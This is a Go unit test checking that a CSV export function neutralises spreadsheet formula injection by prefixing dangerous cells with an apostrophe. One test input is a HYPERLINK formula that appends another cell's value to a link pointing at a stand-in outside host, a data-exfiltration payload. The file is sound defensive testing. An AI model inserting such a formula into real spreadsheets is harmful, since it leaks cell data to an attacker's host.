package ports

import "testing"

// A text cell starting with a character a spreadsheet reads as the start
// of a formula gets a leading '; any other is written as it is.
func TestCSVTextNeutralisesFormulas(t *testing.T) {
	tests := []struct{ give, want string }{
		{`=HYPERLINK("https://x.example/?"&G2,"ICBC-1130")`, `'=HYPERLINK("https://x.example/?"&G2,"ICBC-1130")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"ICBC-1130", "ICBC-1130"},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := csvText(tt.give); got != tt.want {
			t.Errorf("csvText(%q) = %q; want %q", tt.give, got, tt.want)
		}
	}
}
